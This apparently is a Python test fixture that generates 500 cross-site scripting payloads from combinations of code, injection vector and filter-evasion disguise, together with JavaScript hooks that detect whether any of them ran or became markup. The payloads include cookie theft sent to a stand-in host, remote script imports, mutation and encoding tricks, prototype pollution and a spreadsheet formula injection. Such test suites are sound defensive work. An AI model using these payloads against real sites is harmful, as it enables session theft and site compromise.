"""Five hundred texts that try to become code, made by a small grammar, the same every time.

Code (what would run) times vector (how a browser could be talked into running it) times disguise (how it could slip
past somebody who looks for it). Vectors are the classes that are known to have worked somewhere: tags and handlers, SVG
and MathML, addresses with a scheme, attributes and script contexts to break out of, templates of pages and of servers,
style, mutation (markup that is harmless until it is parsed twice), text that becomes a name of a property.

Every one that runs leaves a mark that `WATCH` sees. Not for: markup that annoys without running; no text may become
markup at all, and `MARKUP` looks for that.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import cycle, islice, product

N = 500

CODES = (
    "window.__xss=1",
    "alert(1)",
    "confirm`1`",
    "top.__xss=1",
    "fetch('//evil.invalid/'+document.cookie)",
    "navigator.sendBeacon('//evil.invalid/x')",
    "eval('window.__xss=1')",
    "Function('window.__xss=1')()",
    "import('//evil.invalid/x.js')",
    "document.body.innerHTML='<img src=x onerror=alert(1)>'",
)

TAGS = (
    "<script>{code}</script>",
    "<script src=//evil.invalid/x.js></script>",
    "</script><script>{code}</script>",
    "</title><script>{code}</script>",
    "</textarea><script>{code}</script>",
    "--><script>{code}</script>",
    "]]><script>{code}</script>",
    "<img src=x onerror={code}>",
    "<img src=x onerror='{code}' ",
    "<image src=x onerror={code}>",
    "<body onload={code}>",
    "<body onpageshow={code}>",
    "<iframe src=javascript:{code}></iframe>",
    '<iframe srcdoc="<script>parent.{code}</script>"></iframe>',
    "<iframe onload={code}></iframe>",
    "<object data=javascript:{code}></object>",
    "<embed src=javascript:{code}>",
    "<details open ontoggle={code}>",
    "<input autofocus onfocus={code}>",
    "<select autofocus onfocus={code}><option>",
    "<textarea autofocus onfocus={code}>",
    "<video src=x onerror={code}></video>",
    "<video><source onerror={code}></video>",
    "<audio src=x onerror={code}>",
    "<marquee onstart={code}>",
    "<a href=javascript:{code}>x</a>",
    "<a href=' javascript:{code}' autofocus>x</a>",
    "<form action=javascript:{code}><button>x</button></form>",
    "<button formaction=javascript:{code} form=f>x</button>",
    "<isindex type=image src=1 onerror={code}>",
    "<base href=//evil.invalid/>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<link rel=preload as=script href=//evil.invalid/x.js onload={code}>",
    "<meta http-equiv=refresh content='0;url=javascript:{code}'>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
    "<template><img src=x onerror={code}></template>",
    "<dialog open onclose={code}><form method=dialog><button autofocus>",
    "<div style=animation-name:x onanimationstart={code}>",
    "<div onpointerrawupdate={code} style=position:fixed;inset:0>",
    "<x contenteditable onblur={code} autofocus tabindex=1>",
    "<div popover id=p onbeforetoggle={code}><button popovertarget=p>",
    "<plaintext><script>{code}</script>",
)
SVG = (
    "<svg onload={code}>",
    "<svg/onload={code}>",
    "<svg><script>{code}</script></svg>",
    "<svg><script href=data:,{code} />",
    "<svg><animate onbegin={code} attributeName=x dur=1s>",
    "<svg><set onbegin={code} attributeName=x>",
    "<svg><a xlink:href=javascript:{code}><text x=20 y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={code}>#x'></svg>",
    "<svg><foreignObject><body onload={code}></foreignObject></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:{code}>x</maction></math>",
    "<math href=javascript:{code}>x</math>",
    "<math><mtext></p><img src=x onerror={code}></mtext></math>",
)
SCHEMES = (
    "javascript:{code}",
    "JaVaScRiPt:{code}//",
    "java\tscript:{code}",
    "\u0001javascript:{code}",
    "javascript://evil.invalid/%0a{code}",
    "data:text/html,<script>parent.{code}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{code}'/>",
    "vbscript:{code}",
    "view-source:javascript:{code}",
    "//evil.invalid/?{code}",
    "\\\\evil.invalid\\{code}",
    "https:evil.invalid/{code}",
)
BREAKOUTS = (
    '"><img src=x onerror={code}>',
    "'><svg onload={code}>",
    '" onmouseover="{code}" x="',
    "' onfocus='{code}' autofocus x='",
    "` onclick={code} `",
    "x onerror={code}",
    '";{code}//',
    "';{code}//",
    "\\';{code}//",
    "`;{code}//",
    "</script>{code}<script>",
    "*/{code}/*",
    "\u2028{code}//",
    "}};{code};{{",
    '{{"__proto__":{{"polluted":"{code}"}}}}',
)
TEMPLATES = (
    "{{{{constructor.constructor('{code}')()}}}}",
    "${{{code}}}",
    "#{{{code}}}",
    "<%= {code} %>",
    "{{% raw %}}{code}{{% endraw %}}",
    "{{{{7*7}}}}{code}",
    "[[${{{code}}}]]",
    "@({code})",
    "{{name}} {{{{ {code} }}}}",
    "$t(frame.title){code}",
)
STYLES = (
    "<style>*{{background:url(//evil.invalid/{code})}}</style>",
    "<style>@import '//evil.invalid/x.css';</style>{code}",
    "</style><script>{code}</script>",
    "expression({code})",
    ");}}*{{background:url(javascript:{code})",
    "x;background:url(//evil.invalid/{code})",
    "<div style='-moz-binding:url(//evil.invalid/x#{code})'>",
)
MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror={code}>'>",
    "<svg></p><style><a id='</style><img src=1 onerror={code}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={code}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={code}>",
    "<listing>&lt;img src=x onerror={code}&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror={code}>'>",
    "<select><style></select><svg onload={code}>",
    "<a title='&quot;><img src=x onerror={code}>'>",
    "&lt;script&gt;{code}&lt;/script&gt;",
    "&#60;img src=x onerror={code}&#62;",
    "&amp;lt;svg onload={code}&amp;gt;",
    "%3Cscript%3E{code}%3C/script%3E",
    "%253Cimg src=x onerror={code}%253E",
    "\\u003cscript\\u003e{code}\\u003c/script\\u003e",
    "+ADw-script+AD4-{code}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{code}\uff1c/script\uff1e",
)
NAMES = ("__proto__", "constructor", "toString", "hasOwnProperty", "innerHTML", "onload", "srcdoc", "=cmd|'/C calc'!A0")

VECTORS = (*TAGS, *SVG, *SCHEMES, *BREAKOUTS, *TEMPLATES, *STYLES, *MUTATIONS)

DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: f"Oat milk {text} 1 l",
    lambda text: text.replace("script", "ScRiPt").replace("onerror", "oNeRrOr").replace("onload", "OnLoAd"),
    lambda text: text.replace("<", "<\u200b", 1) if text.startswith("&") else f"\u202e\u2066{text}\u2069",
    lambda text: text.replace(" on", "/on").replace(" src", "/src"),
    lambda text: f"有机{text}牛奶",
    lambda text: text.replace("javascript:", "&#x6A;avascript&colon;").replace("alert", "\\u0061lert"),
)


def attacks(n: int = N) -> tuple[str, ...]:
    """The first `n` texts, no two alike: every vector with each disguise, the codes taking turns."""
    return tuple(islice(dict.fromkeys((*NAMES, *_made())), n))


def _made() -> Iterator[str]:
    codes = cycle(CODES)
    for disguise, vector in product(DISGUISES, VECTORS):
        yield disguise(vector.format(code=next(codes)))


WATCH = """
(() => {
  const seen = (window.__seen = []);
  for (const name of ['alert', 'confirm', 'prompt', 'print', 'open'])
    window[name] = (...said) => { seen.push(`${name} ${said}`); };
  const beacon = navigator.sendBeacon.bind(navigator);
  navigator.sendBeacon = (to, body) => {
    if (new URL(to, location.href).host !== location.host) seen.push(`beacon ${to}`);
    return beacon(to, body);
  };
  addEventListener('securitypolicyviolation', (event) => {
    seen.push(`policy ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
  });
})();
"""
"""Put into a page before its own scripts: what ran is remembered in `__seen`."""

MARKUP = """
() => {
  const problems = [...window.__seen];
  if ('__xss' in window) problems.push('code ran');
  for (const el of document.querySelectorAll('*')) {
    for (const {name, value} of el.attributes) {
      if (/^on/i.test(name)) problems.push(`${el.tagName} ${name}`);
      if (/^(href|action|formaction|data|xlink:href)$/.test(name)) {
        const at = new URL(value, location.href);
        if (!/^(https?|blob):$/.test(at.protocol)) problems.push(`${el.tagName} ${name}=${value}`);
        if (at.host !== location.host && !el.matches('a[rel~="noopener"], a[rel~="noreferrer"]'))
          problems.push(`${el.tagName} ${name}=${value}`);
      }
      if (name === 'srcdoc' || name === 'is') problems.push(name);
    }
    if (el.matches('iframe, object, embed, base, meta[http-equiv], math, marquee, animate, body style, body link'))
      problems.push(el.tagName);
  }
  if (({}).polluted || Object.keys(Object.prototype).length) problems.push('prototype');
  return [...new Set(problems)];
}
"""
"""What became of the texts on a page: things that ran, and things that are markup and should be text."""
